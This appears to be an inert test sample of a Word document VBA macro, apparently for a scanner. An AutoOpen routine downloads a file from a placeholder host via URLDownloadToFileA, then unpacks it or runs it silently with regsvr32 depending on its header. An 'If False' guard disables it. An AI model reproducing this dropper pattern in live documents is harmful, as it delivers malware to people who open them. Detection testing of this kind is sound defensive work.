Attribute VB_Name = "ThisDocument"
Attribute VB_Base = "1Normal.ThisDocument"
Attribute VB_GlobalNameSpace = False
Attribute VB_Creatable = False
Attribute VB_PredeclaredId = True
Attribute VB_Exposed = True
Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub AutoOpen()
' INERT SEKISHO TEST
If False Then
u = "http://example.invalid/wp-includes/InErT/?123456"
t = ActiveDocument.Path & "\" & "inert.tmp"
Fetch 0, u, t, 0, 0
h = Left(ReadAll(t), 2)
If h = "PK" Then UnpackTo t, ActiveDocument.Path
If h = "MZ" Then Shell "regsvr32.exe /s """ & t & """", 0
End If
End Sub
